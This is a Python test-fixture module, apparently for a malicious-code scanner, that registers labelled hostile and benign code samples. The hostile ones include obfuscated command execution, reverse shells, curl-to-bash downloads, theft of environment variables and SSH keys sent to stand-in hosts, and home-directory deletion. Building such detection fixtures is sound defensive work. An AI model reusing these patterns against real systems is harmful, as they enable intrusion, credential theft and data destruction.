"""Python source, hostile and benign. Commands are `echo`; addresses are of RFC 5737 and RFC 2606, and lead nowhere."""

from __future__ import annotations

import base64
import zlib

from stannary.testing.forges import forge

__all__: list[str] = []

_ECHO = "import os; os.system('echo stannary')"
_B64 = base64.b64encode(_ECHO.encode()).decode()
_ZLIB = base64.b64encode(zlib.compress(_ECHO.encode())).decode()
_URL = "http://203.0.113.9/stage"


def _source(
    name: str, text: str, *, filename: str = "train.py", family: str = "Python source", malicious: bool | None = True
) -> None:
    forge(f"python.{name}", filename=filename, family=family, malicious=malicious)(lambda: text.lstrip("\n").encode())


for _name, _text in {
    "system_on_import": "import os\nos.system('echo stannary')\n",
    "example_runner": "import doctest\ndoctest.run_docstring_examples('>>> import os; os.system(\"echo stannary\")', {})\n",
    "method_bound": "import os\nclass X:\n    __class_getitem__ = os.system\nX['echo stannary']\n",
    "registry_builds": "model = dict(type='os.system', command='echo stannary')\n",
    "debugger": "import pdb\npdb.run('import os; os.system(\"echo stannary\")')\n",
    "listens_to_keys": "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n",
    "lets_eval_be_loaded": "import torch.serialization as s\ns.add_safe_globals([eval])\n",
    "writes_into_system": "import shutil\nshutil.copy('x.so', '/usr/lib/x.so')\n",
    "system_alias": "from os import system as log\nlog('echo stannary')\n",
    "system_getattr": "import os\ngetattr(os, 'sys' + 'tem')('echo stannary')\n",
    "system_dunder_import": "__import__('o' + 's').system('echo stannary')\n",
    "system_modules": "import sys, os\nsys.modules['os'].system('echo stannary')\n",
    "system_dict": "import os\nos.__dict__['system']('echo stannary')\n",
    "system_importlib": "import importlib\nm = importlib.import_module('subpro' + 'cess')\nm.run('echo stannary', shell=True)\n",
    "system_in_class": "import os\nclass Model:\n    cache = os.popen('echo stannary').read()\n",
    "system_in_default": "import os\ndef load(path, probe=os.system('echo stannary')):\n    return path\n",
    "system_in_decorator": "import os\ndef once(f):\n    os.system('echo stannary')\n    return f\n@once\ndef load():\n    pass\n",
    "system_in_thread": "import os, threading\ndef work():\n    os.system('echo stannary')\nthreading.Thread(target=work).start()\n",
    "system_via_map": "import os\nlist(map(os.system, ['echo stannary']))\n",
    "system_via_partial": "import functools, os\nfunctools.partial(os.system, 'echo stannary')()\n",
    "system_via_branch": "import os\nf = print\nif len(__file__) > 3:\n    f = os.system\nf('echo stannary')\n",
    "system_via_table": "import os\nops = {'load': os.system, 'none': None}\nops['load']('echo stannary')\n",
    "system_in_comprehension": "import os\n[f('echo stannary') for f in (os.system,)]\n",
    "system_in_lambda": "import os\nrun = lambda c: os.system(c)\nrun('echo stannary')\n",
    "system_by_method": "import os\nclass A:\n    def __init__(self):\n        self.k = os.system\n    def go(self):\n        self.k('echo stannary')\nA().go()\n",
    "system_atexit": "import atexit, os\natexit.register(os.system, 'echo stannary')\n",
    "system_star_import": "from os import *\nsystem('echo stannary')\n",
    "exec_base64": f"import base64\nexec(base64.b64decode('{_B64}'))\n",
    "exec_zlib": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_ZLIB}')))\n",
    "exec_by_helper": f"import base64 as b\ndef d(s):\n    return b.b64decode(s).decode()\nexec(d('{_B64}'))\n",
    "exec_chr": f"exec(''.join(map(chr, {list(_ECHO.encode())})))\n",
    "exec_xor": f"exec(''.join(chr(c ^ 7) for c in {[c ^ 7 for c in _ECHO.encode()]}))\n",
    "exec_reversed": f"exec({_ECHO[::-1]!r}[::-1])\n",
    "exec_rot13": "import codecs\nexec(codecs.decode(\"vzcbeg bf; bf.flfgrz('rpub fgnaanel')\", 'rot13'))\n",
    "exec_marshal": "import base64, marshal\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))\n",
    "exec_globals": f"import base64\nglobals()['__builtins__'].__dict__['ex' + 'ec'](base64.b64decode('{_B64}'))\n",
    "exec_downloaded": f"import urllib.request\nexec(urllib.request.urlopen('{_URL}').read())\n",
    "run_downloaded": f"import os, requests\nopen('/tmp/stannary.sh', 'wb').write(requests.get('{_URL}').content)\nos.system('curl {_URL} | sh')\n",
    "curl_pipe": f"import subprocess\nsubprocess.Popen(['bash', '-c', 'curl -s {_URL} | bash'])\n",
    "reverse_shell": "import os, socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "reverse_shell_loop": "import socket, subprocess\ns = socket.create_connection(('203.0.113.9', 4444))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())\n",
    "environment_sent": f"import os, requests\nrequests.post('{_URL}', json=dict(os.environ))\n",
    "key_sent": f"import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('{_URL}', data=key.encode())\n",
    "bashrc": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('echo stannary')\n",
    "authorized_keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 none')\n",
    "rmtree_home": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
    "reduce": "import os\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ('echo stannary',))\n",
    "subclasses_walk": "x = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'Popen']\n",
    "remote_pickle": f"import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen('{_URL}').read())\n",
    "remote_pickle_beside": f"import joblib, io, requests\nURL = '{_URL}'\nmodel = joblib.load(io.BytesIO(requests.get(URL).content))\n",
    "ctypes_system": "import ctypes\nctypes.CDLL(None).system(b'echo stannary')\n",
    "nested_exec": "exec(\"exec('import os\\\\nos.system(\\\\'echo stannary\\\\')')\")\n",
    "encoding_cookie": "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\n",
    "system_as_decorator": "import os\n@os.system\n@(lambda f: 'echo stannary')\ndef load():\n    pass\n",
    "bashrc_joinpath": "import pathlib\npathlib.Path.home().joinpath('.bashrc').write_text('echo stannary')\n",
    "path_file": "import site\nopen(site.getusersitepackages() + '/x.pth', 'w').write('import os')\n",
    "name_lookup": "import os, socket\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.attacker.example')\n",
}.items():
    _source(_name, _text)

_source("shadow_file", "import pwd\nrows = open('/etc/shadow').read()\n", filename="prepare.py")
_source("shellcode", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n", filename="fast.py")
_source(
    "setup_hidden",
    f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{_B64}'))\nsetup(name='x')\n",
    filename="setup.py",
)
_source("startup_module", "import subprocess\nsubprocess.Popen(['echo', 'stannary'])\n", filename="sitecustomize.py")
_source("patch_loader", "import torch\ntorch.load = lambda *a, **k: print('stannary')\n", filename="sitecustomize.py")
_source("bidi", "access = 'user'\nif access != 'user\u202e \u2066# only admins\u2069 \u2066':\n    pass\n", filename="check.py")
_source("broken", "import os\nos.system('echo stannary'\n", filename="broken.py", malicious=None)
_source("deep", "x = " + "(" * 5000 + ")" * 5000 + "\n", filename="deep.py", malicious=None)

_source("training", """
import argparse, os, subprocess
import torch
from torch import nn
from transformers import AutoModel, Trainer


class Net(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.layers = nn.Sequential(nn.Linear(width, width), nn.ReLU())

    def forward(self, x):
        return self.layers(x)


def revision():
    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('--checkpoint', default=os.path.join('out', 'last.pt'))
    args = parser.parse_args()
    model = Net(8)
    model.load_state_dict(torch.load(args.checkpoint, weights_only=True))
    model.eval()
    print(revision())


if __name__ == '__main__':
    main()
""", malicious=False)  # fmt: skip
_source(
    "setup_plain",
    """
import os
import re
import subprocess
from setuptools import find_packages, setup

here = os.path.dirname(os.path.abspath(__file__))
version = re.search("__version__ = '(.*)'", open(os.path.join(here, 'pkg', '__init__.py')).read()).group(1)
try:
    sha = subprocess.check_output(['git', 'rev-parse', 'HEAD'], cwd=here).decode('ascii').strip()
except Exception:
    sha = 'unknown'
setup(name='pkg', version=version, packages=find_packages(), install_requires=['numpy'])
""",
    filename="setup.py",
    malicious=False,
)
_source(
    "conversion",
    """
import json, os, pickle, tempfile
import numpy as np, requests, torch
from safetensors.torch import save_file

def fetch(url, token=None):
    headers = {'Authorization': f"Bearer {token or os.environ['HF_TOKEN']}"}
    return requests.get(url, headers=headers, timeout=10).json()

def convert(path, out):
    state = torch.load(path, map_location='cpu')
    names = pickle.load(open('names.pkl', 'rb'))
    save_file({names[k]: v for k, v in state.items()}, out)
    with open(os.path.join(os.path.dirname(out), 'config.json'), 'w') as f:
        json.dump({'converted': True}, f)
    eval_model = lambda m: m.eval()
    return eval_model
""",
    filename="convert.py",
    malicious=False,
)
_source(
    "trust_remote_code",
    "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('org/name', trust_remote_code=True)\n",
    malicious=False,
)
_source(
    "notebook_like",
    "import os\nif not os.path.exists('data'):\n    os.system('git clone https://github.com/org/data')\n",
    malicious=False,
)
_source(
    "extension", "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'kernel.so'))\n", malicious=False
)
_source(
    "installs",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'flash-attn'])\n",
    malicious=False,
)
_source(
    "template_exec",
    "fields = ['a', 'b']\nbody = 'def init(self, ' + ', '.join(fields) + '): pass'\nnamespace = {}\nexec(body, namespace)\n",
    malicious=False,
)
_source(
    "plugin_loader",
    "import importlib\n\ndef load(name):\n    return getattr(importlib.import_module(name.rpartition('.')[0]), name.rpartition('.')[2])\n",
    malicious=False,
)
_source(
    "downloads", "import urllib.request\nurllib.request.urlretrieve('https://example.org/data.csv', 'data.csv')\n", malicious=False
)
_source(
    "demo_server",
    "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\nport = s.getsockname()[1]\ns.close()\n",
    malicious=False,
)
